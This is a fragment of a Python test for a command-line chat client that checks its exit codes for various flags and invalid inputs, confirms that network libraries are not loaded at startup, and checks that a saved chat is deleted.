    write_turns("alpha", turn("q0", "a0"))
    commands = [
        (["--help"], 0),
        (["--version"], 0),
        (["--chats"], 0),
        (["--show"], 0),
        (["--show", "alpha"], 0),
        (["--forget", "nope"], 2),
        (["--bogus"], 2),
        (["--curl", "q"], 0),
        (["-c", "--curl", "q"], 0),
        (["--max-tokens", "0", "q"], 2),
        (["--image", "missing.png", "q"], 2),
        (["--chat", "../x", "q"], 2),
        (["--forget", "alpha"], 0),
    ]
    script = f"""if True:
        import io, json, os, sys
        sys.path.insert(0, {str(ROOT)!r})
        import chat
        for argv in json.loads(sys.argv[1]):
            streams = io.BytesIO(b""), io.StringIO(), io.StringIO()
            code = chat.main(argv, chat.Env(*streams, dict(os.environ), os.getcwd()))
            loaded = [name for name in ("requests", "urllib3") if name in sys.modules]
            print(json.dumps([argv, code, loaded]))
    """
    done = subprocess.run(
        [sys.executable, "-c", script, json.dumps([argv for argv, _ in commands])],
        capture_output=True,
        text=True,
        env=cli.environ(FAKE_KEY, {}),
        cwd=cli.folder,
        stdin=subprocess.DEVNULL,
        timeout=30,
        check=False,
    )
    assert done.stderr == ""
    assert [json.loads(line) for line in done.stdout.splitlines()] == [
        [argv, code, []] for argv, code in commands
    ]
    assert saved() == {}  # --forget alpha ran
